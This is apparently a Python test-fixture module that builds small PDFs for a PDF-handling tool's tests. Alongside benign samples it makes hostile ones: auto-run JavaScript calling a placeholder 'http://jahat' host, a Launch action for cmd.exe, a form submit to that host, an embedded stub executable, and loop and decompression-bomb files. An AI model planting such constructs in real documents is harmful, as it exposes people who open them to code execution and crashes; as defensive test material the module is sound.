"""Small PDFs that the tests make themselves, good and hostile."""

from __future__ import annotations

import io
import zlib

from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)


def pdf(*halaman: str, putar: int = 0) -> bytes:
    """A PDF with one page per text, in Helvetica."""
    return written(writer(*halaman, putar=putar))


def writer(*halaman: str, putar: int = 0) -> PdfWriter:
    """The same, still open for changes."""
    result = PdfWriter()
    font = result._add_object(named(Type="/Font", Subtype="/Type1", BaseFont="/Helvetica"))
    for teks in halaman or ("Bukti",):
        page = result.add_blank_page(595, 842)
        stream = DecodedStreamObject()
        stream.set_data(b"BT /F1 14 Tf 72 770 Td (" + teks.encode("latin-1") + b") Tj ET")
        page[NameObject("/Contents")] = result._add_object(stream)
        page[NameObject("/Resources")] = named(Font=DictionaryObject({NameObject("/F1"): font}))
        page[NameObject("/Rotate")] = NumberObject(putar)
    return result


def written(result: PdfWriter) -> bytes:
    """The bytes of an open PDF."""
    stream = io.BytesIO()
    result.write(stream)
    return stream.getvalue()


def hostile() -> bytes:
    """Scripts, automatic actions, a program to start, an embedded file and a media field, all in one PDF."""
    result = writer("Laporan")
    result.add_attachment("rahasia.exe", b"MZ" * 20)
    root, page = result.root_object, result.pages[0]
    script = result._add_object(action("/JavaScript", JS=TextStringObject("app.launchURL('http://jahat')")))
    scripts = named(Names=ArrayObject([TextStringObject("a"), script]))
    root["/Names"][NameObject("/JavaScript")] = scripts
    root[NameObject("/OpenAction")] = script
    root[NameObject("/AA")] = named(WC=script)
    page[NameObject("/AA")] = named(O=script)
    page[NameObject("/Annots")] = ArrayObject(
        [
            annotation("/Link", A=action("/Launch", F=TextStringObject("cmd.exe"))),
            annotation("/Link", A=action("/URI", URI=TextStringObject("javascript:alert(1)"))),
            annotation("/Link", A=action("/URI", URI=TextStringObject("https://contoh.go.id"), Next=script)),
            annotation("/Link", A=action("/SubmitForm", F=TextStringObject("http://jahat"))),
            annotation("/Widget", AA=named(K=script), A=script),
            annotation("/RichMedia"),
            annotation("/FileAttachment", FS=TextStringObject("lampiran")),
        ]
    )
    root[NameObject("/AcroForm")] = named(XFA=TextStringObject("<xdp/>"), Fields=ArrayObject())
    return written(result)


def signed() -> bytes:
    """A PDF whose form holds a filled signature field."""
    result = writer("Ditandatangani")
    field = named(FT="/Sig", T=TextStringObject("ttd"), V=named(Type="/Sig", Filter="/Adobe.PPKLite"))
    result.root_object[NameObject("/AcroForm")] = named(Fields=ArrayObject([result._add_object(field)]))
    return written(result)


def locked(kata_sandi: str) -> bytes:
    """A PDF that needs a password (an empty one: only the owner's restrictions)."""
    result = writer("Terkunci")
    result.encrypt(kata_sandi, "pemilik", algorithm="RC4-128")
    return written(result)


def page_tree_loop() -> bytes:
    """A page tree that contains itself."""
    return raw(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[2 0 R 3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>",
    )


def outline_loop() -> bytes:
    """Bookmarks that follow one another in a circle."""
    return raw(
        b"<</Type/Catalog/Pages 2 0 R/Outlines 4 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>",
        b"<</Type/Outlines/First 5 0 R/Last 6 0 R/Count 2>>",
        b"<</Title(a)/Parent 4 0 R/Next 6 0 R>>",
        b"<</Title(b)/Parent 4 0 R/Next 5 0 R/Prev 5 0 R>>",
    )


def action_loop() -> bytes:
    """An action whose next action is itself, and a form whose field is its own child."""
    return raw(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AcroForm<</Fields[5 0 R]>>>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/AA<</O 4 0 R>>>>",
        b"<</S/JavaScript/JS(x)/Next 4 0 R>>",
        b"<</FT/Tx/Kids[5 0 R 5 0 R]>>",
    )


def flate_bomb(megabyte: int = 400) -> bytes:
    """A page whose content unpacks to hundreds of megabytes."""
    engine = zlib.compressobj(9)
    packed = b"".join(engine.compress(b" " * (1 << 20)) for _ in range(megabyte)) + engine.flush()
    return raw(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/Contents 4 0 R>>",
        b"<</Length %d/Filter/FlateDecode>>\nstream\n%s\nendstream" % (len(packed), packed),
    )


def raw(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from 1, the first being the catalog."""
    body, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(objects) + 1
    return (
        body
        + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
        % (
            size,
            table,
            size,
            len(body),
        )
    )


def picture(lebar: int = 400, tinggi: int = 300, format: str = "JPEG", mode: str = "RGB") -> bytes:
    """A picture with some structure in it."""
    stream = io.BytesIO()
    Image.linear_gradient("L").resize((lebar, tinggi)).convert(mode).save(stream, format)
    return stream.getvalue()


def text(isi: bytes) -> list[str]:
    """The text of every page."""
    return [page.extract_text() for page in PdfReader(io.BytesIO(isi)).pages]


def annotation(kind: str, **entries: PdfObject) -> DictionaryObject:
    box = ArrayObject([FloatObject(value) for value in (10, 10, 60, 40)])
    return named(Type="/Annot", Subtype=kind, Rect=box, **entries)


def action(kind: str, **entries: PdfObject) -> DictionaryObject:
    return named(S=kind, **entries)


def named(**entries: PdfObject | str) -> DictionaryObject:
    """A dictionary; a plain str becomes a name."""
    return DictionaryObject(
        {
            NameObject(f"/{key}"): NameObject(value) if type(value) is str else value
            for key, value in entries.items()
        }
    )
